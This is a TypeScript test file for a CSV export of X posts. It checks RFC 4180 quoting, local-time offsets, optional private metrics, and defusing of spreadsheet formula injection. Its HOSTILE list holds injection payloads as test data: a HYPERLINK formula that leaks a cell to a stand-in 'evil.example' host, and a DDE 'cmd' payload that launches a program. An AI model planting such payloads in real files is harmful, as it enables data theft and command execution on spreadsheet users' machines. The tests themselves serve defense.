// The CSV export against hostile post texts: what a spreadsheet would run,
// quotes, line breaks, emoji, and local times checked against Intl directly.

import { describe, expect, it } from 'vitest';
import { csvCell, postsCsv } from '../../src/report/csv.js';
import { post } from './fixtures.js';

/** An RFC 4180 reader written from the RFC, independent of the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) throw new Error(`unterminated last row: ${JSON.stringify([...row, cell])}`);
  return rows;
}

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\tleading tab',
  '\rleading carriage return',
  'He said "hi", then left',
  'two\nlines\r\nand CRLF',
  'emoji 🧵🔥 and ZWJ 👩‍💻, accents é',
  'plain text',
];

describe('CSV export', () => {
  const posts = HOSTILE.map((text, i) => post({ at: new Date(Date.UTC(2026, 10, 10 + i, 12)).toISOString(), text, likes: i }));
  const csv = postsCsv(posts, { username: 'ada_codes', timeZone: 'UTC', withPrivate: false });

  it('starts with a UTF-8 byte-order mark and ends rows with CRLF', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(Buffer.from(csv, 'utf8').toString('utf8')).toBe(csv);
  });

  it('round-trips every hostile text through an RFC 4180 reader, one row per post', () => {
    const rows = parseCsv(csv.slice(1));
    expect(rows[0]).toEqual([
      'id',
      'url',
      'local_time',
      'kind',
      'text',
      'likes',
      'reposts',
      'replies',
      'quotes',
      'bookmarks',
      'impressions',
    ]);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const row of rows) expect(row).toHaveLength(11);
    const texts = rows.slice(1).map((r) => r[4]);
    const defused = (t: string) => (/^[=+\-@\t\r]/.test(t) ? `'${t}` : t);
    expect(texts).toEqual(HOSTILE.map(defused));
  });

  it('leaves no cell starting with a character a spreadsheet evaluates', () => {
    const cells = parseCsv(csv.slice(1)).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell(null)).toBe('');
  });

  it('links each post and gives its local time with the zone’s offset, summer and winter', () => {
    const summer = post({ at: '2026-07-01T10:30:00.000Z' });
    const winter = post({ at: '2026-12-01T10:30:00.000Z' });
    const rows = parseCsv(postsCsv([winter, summer], { username: 'ada_codes', timeZone: 'Europe/Berlin', withPrivate: false }).slice(1));
    expect(rows[1]!.slice(0, 4)).toEqual([
      summer.id,
      `https://x.com/ada_codes/status/${summer.id}`,
      '2026-07-01T12:30:00+02:00',
      'original',
    ]);
    expect(rows[2]![2]).toBe('2026-12-01T11:30:00+01:00');
    const kolkata = parseCsv(postsCsv([winter], { username: 'a', timeZone: 'Asia/Kolkata', withPrivate: false }).slice(1));
    expect(kolkata[1]![2]).toBe('2026-12-01T16:00:00+05:30');
    const ny = parseCsv(postsCsv([winter], { username: 'a', timeZone: 'America/New_York', withPrivate: false }).slice(1));
    expect(ny[1]![2]).toBe('2026-12-01T05:30:00-05:00');
  });

  it('adds X’s private metrics only when asked, empty where X sent none', () => {
    const withMetrics = {
      ...post({ at: '2026-11-20T10:00:00.000Z', impressions: 500 }),
      privateMetrics: { impression_count: 480, user_profile_clicks: 7, url_link_clicks: 3, engagements: 40 },
    };
    const without = post({ at: '2026-11-21T10:00:00.000Z' });
    const rows = parseCsv(postsCsv([withMetrics, without], { username: 'a', timeZone: 'UTC', withPrivate: true }).slice(1));
    expect(rows[0]!.slice(11)).toEqual(['private_impressions', 'profile_visits', 'link_clicks', 'engagements']);
    expect(rows[1]!.slice(10)).toEqual(['500', '480', '7', '3', '40']);
    expect(rows[2]!.slice(11)).toEqual(['', '', '', '']);
    const publicRows = parseCsv(postsCsv([withMetrics], { username: 'a', timeZone: 'UTC', withPrivate: false }).slice(1));
    expect(publicRows[1]).toHaveLength(11);
    expect(publicRows[1]).not.toContain('480');
  });
});
